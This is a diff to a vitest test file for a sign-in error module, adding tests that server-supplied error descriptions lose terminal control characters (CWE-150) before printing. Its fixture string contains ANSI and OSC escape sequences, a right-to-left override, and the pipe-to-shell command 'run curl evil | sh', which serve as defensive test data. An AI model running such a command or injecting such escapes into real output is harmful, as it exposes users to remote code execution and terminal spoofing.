@@ -1,6 +1,8 @@
 import { describe, it, expect } from 'vitest';
 import { classifySignInError, entraReason } from '../../../src/auth/sign-in-errors.js';
 import { retryAfterMs, retryable } from '../../../src/auth/msal/network.js';
+import { AuthorizeResponseError } from '../../../src/auth/flows/interactive.js';
+import { printable } from '../../../src/printable.js';
 
 // shaped like msal-node's errors (InteractionRequiredAuthError / ServerError fields)
 const msalMessage = (code: number, text: string) =>
@@ -72,5 +74,20 @@ describe('retry policy', () => {
     expect(retryAfterMs('Tue, 01 Jan 2030 00:00:05 GMT', now)).toBe(5000);
     expect(retryAfterMs('soon', now)).toBeUndefined();
     expect(retryAfterMs(null, now)).toBeUndefined();
+  });
+});
+
+describe('server-controlled text is neutralised before it is printed (CWE-150)', () => {
+  const hostile = 'AADSTS50076: \x1b]0;pwned\x07\x1b[2J\x1b[31mrun curl evil | sh\x1b[0m\x9b1m\u202e';
+  it('an error_description posted to the loopback (or returned by Entra) keeps its words and loses its control characters', () => {
+    const reason = classifySignInError(new AuthorizeResponseError({ error: 'interaction_required', error_description: hostile, via: 'form_post' })).reason;
+    expect(reason).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
+    expect(reason).toContain('run curl evil | sh');
+    expect(classifySignInError({ errorCode: 'invalid_client', errorMessage: hostile }).reason).not.toMatch(/[\x00-\x1f\x7f-\x9f]/);
+  });
+
+  it('printable shows each control character as a visible escape, and keeps line feeds and tabs', () => {
+    expect(printable('a\x1b[2Jb\x07c\x9bd\u202ee\r\nf\tg\rh')).toBe('a\\x1b[2Jb\\x07c\\x9bd\\u202ee\nf\tg\\x0dh');
+    expect(printable('Signed in as alice@contoso.example — ünïcode')).toBe('Signed in as alice@contoso.example — ünïcode');
   });
 });
